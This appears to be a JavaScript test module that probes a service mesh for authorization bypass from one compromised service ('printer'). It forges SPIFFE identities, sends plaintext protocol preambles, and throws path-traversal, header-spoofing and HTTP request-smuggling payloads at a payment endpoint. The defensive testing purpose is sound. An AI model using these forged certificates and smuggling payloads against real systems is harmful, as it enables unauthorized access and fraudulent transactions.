// From printer's place in the network: every way to talk to another service that it has no right to.
import { dial, httpRequest, judge, postgresStartup } from "./dial.mjs";
import { forge, keyPem, makeKey } from "./forge.mjs";

const PAYMENT = '{"user":"mallory","amount":1}';

/** What each service would answer to, if it were reached. */
function opening(target) {
  if (target.protocol === "tcp") {
    return [postgresStartup()];
  }
  const payment = {
    method: "POST",
    path: "/api/v1/payments",
    body: PAYMENT,
    headers: ["content-type: application/json"],
  };
  return [
    httpRequest(
      target.name === "user-service" ? { path: "/users", host: target.name } : { ...payment, host: target.name },
    ),
  ];
}

/** Straight to each sidecar's inbound port, with every kind of certificate an attacker can have, and with none. */
export async function* straight(targets, own, { expired, trustDomain }) {
  for (const [how, tls] of identities(own, expired, trustDomain)) {
    for (const target of targets) {
      const answer = await dial({ target: target.inbound, tls, chunks: opening(target) });
      yield { attempt: `${target.name}'s sidecar, ${how}`, ...judge(target.protocol, answer) };
    }
  }
}

function identities(own, expired, trustDomain) {
  const gateway = `spiffe://${trustDomain}/ns/production/sa/api-gateway`;
  const foreignCa = { key: makeKey(), subject: "a CA of our own" };
  const leaf = makeKey();
  const root = forge({ ...foreignCa, ca: true });
  const foreign = (uri) => forge({ key: leaf, uri, subject: "leaf", issuer: foreignCa });
  const tls = (cert) => ({ cert, key: keyPem(leaf) });
  const found = [
    ["printer's own valid SVID", own === null ? null : { cert: own.cert, key: own.key }],
    ["TLS without a certificate", {}],
    ["an expired SVID of printer", expired],
    ["api-gateway's ID from another CA", tls(foreign(gateway) + root)],
    ["api-gateway's ID, signed by itself", tls(forge({ key: leaf, uri: gateway, subject: "leaf" }))],
    ["another trust domain's ID", tls(foreign("spiffe://evil.example/ns/production/sa/api-gateway") + root)],
    ["a certificate without an ID", tls(forge({ key: leaf, subject: "leaf", issuer: foreignCa }) + root)],
    ["plaintext", null],
  ];
  if (own !== null) {
    // printer's key signs a certificate for api-gateway: its own SVID is no CA.
    const printer = { key: { privateKey: own.key, publicKey: null }, subject: "printer" };
    found.push([
      "api-gateway's ID, signed with printer's SVID",
      tls(forge({ key: leaf, uri: gateway, subject: "leaf", issuer: printer }) + own.cert),
    ]);
  }
  return found.filter(([how, tls]) => tls !== null || how === "plaintext");
}

/** Further plaintext: protocols that a lenient listener would take. */
export async function* plaintext(targets) {
  const preambles = [
    ["a PROXY header", "PROXY TCP4 127.0.0.1 127.0.0.1 1 8080\r\n"],
    ["HTTP/2 in the clear", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
    ["an upgrade to h2c", "GET / HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n"],
    ["PostgreSQL's request for TLS", Buffer.from("0000000804d2162f", "hex")],
    ["CONNECT", "CONNECT 127.0.0.1:8080 HTTP/1.1\r\nhost: 127.0.0.1:8080\r\n\r\n"],
  ];
  for (const target of targets) {
    for (const [what, preamble] of preambles) {
      const answer = await dial({ target: target.inbound, chunks: [preamble, ...opening(target)] });
      yield { attempt: `${target.name}'s sidecar, ${what}`, ...judge(target.protocol, answer) };
    }
  }
}

/** Through printer's own sidecar, as any program in its place would: the sidecar proves printer, the other side decides. */
export async function* throughOwnSidecar(targets) {
  for (const target of targets) {
    const answer = await dial({ target: target.outbound, chunks: opening(target) });
    yield { attempt: `${target.name} through printer's own sidecar`, ...judge(target.protocol, answer) };
  }
  const payment = targets.find(({ name }) => name === "payment-service");
  for (const [attempt, chunks] of payment === undefined ? [] : tricks()) {
    const answer = await dial({ target: payment.outbound, chunks });
    yield { attempt: `payment-service: ${attempt}`, ...judge("http", answer) };
  }
}

/** Requests that look to one reader like something allowed, and to another like something else. */
function tricks() {
  const paths = [
    "//api/v1/payments",
    "/api//v1/payments",
    "/api/v1/payments/",
    "/api/v1/payments/../../../internal/export",
    "/api/v1/payments/..%2f..%2f..%2finternal/export",
    "/api/v1/payments%2f..%2f..%2f..%2finternal%2fexport",
    "/api/v1/%70ayments",
    "/API/V1/PAYMENTS",
    "/api/v1/payments?x=/../../internal/export",
    "/api/v1/payments#/internal/export",
    "/api/v1/payments;/../../../internal/export",
    "/api/v1/payments%00",
    "/api/v1/payments/%2e%2e/%2e%2e/%2e%2e/internal/export",
    "/api\\v1\\payments",
    "/./api/v1/payments",
    "http://payment-service/api/v1/payments",
    "http://user-service:8080/users",
    "*",
  ];
  const methods = ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "post", "TRACE", "CONNECT", "FOO"];
  const body = { body: PAYMENT };
  const pay = (headers) => [httpRequest({ method: "POST", path: "/api/v1/payments", headers, ...body })];
  const gateway = "spiffe://example.com/ns/production/sa/api-gateway";
  const inner = httpRequest({ method: "POST", path: "/api/v1/payments", ...body });
  return [
    ...paths.map((path) => [`POST ${path}`, [httpRequest({ method: "POST", path, ...body })]]),
    ...methods.map((method) => [`${method} /api/v1/payments`, [httpRequest({ method, path: "/api/v1/payments" })]]),
    ["X-Forwarded-Client-Cert of api-gateway", pay([`x-forwarded-client-cert: By=x;URI=${gateway}`])],
    ["X-HTTP-Method-Override", pay(["x-http-method-override: GET"])],
    ["X-Original-URL, X-Rewrite-URL", pay(["x-original-url: /api/v1/payments", "x-rewrite-url: /api/v1/payments"])],
    ["X-Envoy-Original-Path", pay(["x-envoy-original-path: /api/v1/payments", "x-envoy-internal: true"])],
    ["two Host headers", pay(["host: api-gateway"])],
    [
      "Content-Length and Transfer-Encoding",
      [`POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${inner}`],
    ],
    [
      "Transfer-Encoding, obfuscated",
      [`POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: xchunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n${inner}`],
    ],
    [
      "two different Content-Lengths",
      [`POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 0\r\ncontent-length: ${inner.length}\r\n\r\n${inner}`],
    ],
    [
      "a header name with a space",
      [`POST /api/v1/payments HTTP/1.1\r\nhost: x\r\ncontent-length : 4\r\n\r\nabcd${inner}`],
    ],
    ["a folded header", [`POST /api/v1/payments HTTP/1.1\r\nhost: x\r\nx-a: b\r\n c: d\r\n\r\n${inner}`]],
    ["line ends without CR", [inner.replaceAll("\r\n", "\n")]],
    [
      "chunk sizes that overflow",
      [`POST / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff1\r\n${inner}`],
    ],
    ["a request behind a denied one", [`${httpRequest({ path: "/" })}${inner}`]],
    ["HTTP/1.0", [inner.replace("HTTP/1.1", "HTTP/1.0")]],
    ["HTTP/0.9", ["GET /api/v1/payments\r\n"]],
    ["a WebSocket", pay(["connection: upgrade", "upgrade: websocket"])],
    ["a head in single bytes", [...inner]],
  ];
}
